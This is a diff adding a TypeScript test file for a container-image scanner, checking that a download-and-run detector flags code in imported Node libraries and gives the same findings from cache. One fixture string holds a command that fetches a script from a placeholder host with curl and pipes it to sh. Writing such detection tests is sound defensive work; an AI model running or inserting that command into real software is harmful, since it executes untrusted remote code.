@@ -1,0 +1,56 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { image } from '../../test/detection/image-case.ts';
+import { buildImage } from '../../testkit/image.ts';
+import { writeOciLayout } from '../../testkit/store.ts';
+import { DEFAULT_POLICY } from '../assess/index.ts';
+import { DEFAULT_LIMITS } from '../base/limits.ts';
+import { checkTarget } from './check.ts';
+
+const HARMLESS =
+  'const { execSync } = require("child_process");\nmodule.exports = (url) => fetch(url).then(execSync);\n';
+const FETCHES = 'require("child_process").execSync("curl -s https://files.backend.example/u | sh")\n';
+
+let root: string;
+beforeEach(() => {
+  root = mkdtempSync(join(tmpdir(), 'clearpull-imports-'));
+});
+afterEach(() => rmSync(root, { recursive: true, force: true }));
+
+async function check(library: string, imports = 'require("x")'): Promise<readonly string[]> {
+  const spec = image(
+    { 'app/server.js': `${imports};\n`, 'app/node_modules/x/index.js': library },
+    { Entrypoint: ['node', '/app/server.js'] },
+  );
+  const layout = mkdtempSync(join(root, 'layout-'));
+  await writeOciLayout(layout, [{ image: buildImage(spec), name: 'x' }]);
+  const [assessment] = await checkTarget(`oci:${layout}:x`, {
+    policy: DEFAULT_POLICY,
+    limits: DEFAULT_LIMITS,
+    registry: { insecure: false, timeout: 1000, dockerConfigFolder: join(root, 'none') },
+    workers: 1,
+    cacheFolder: join(root, 'cache'),
+  });
+  return (assessment?.findings ?? []).map(({ rule, why }) => `${rule}: ${why}`);
+}
+
+describe('what detectors see in imported libraries', () => {
+  it('is the same out of the cache', async () => {
+    const first = await check(FETCHES);
+    expect(first.join('\n')).toMatch(
+      /download-and-run: .*it lies in a library that a program which starts imports/,
+    );
+    expect(await check(FETCHES)).toEqual(first);
+  });
+
+  it('is found anew for other modules, and is nothing where none is imported', async () => {
+    const told = async (library: string, imports?: string): Promise<boolean> =>
+      (await check(library, imports)).some((text) => text.startsWith('start/download-and-run'));
+    expect(await told(FETCHES)).toBe(true);
+    expect(await told(HARMLESS)).toBe(false);
+    expect(await told(FETCHES, 'require("y")')).toBe(false);
+    expect(await told(FETCHES)).toBe(true);
+  });
+});
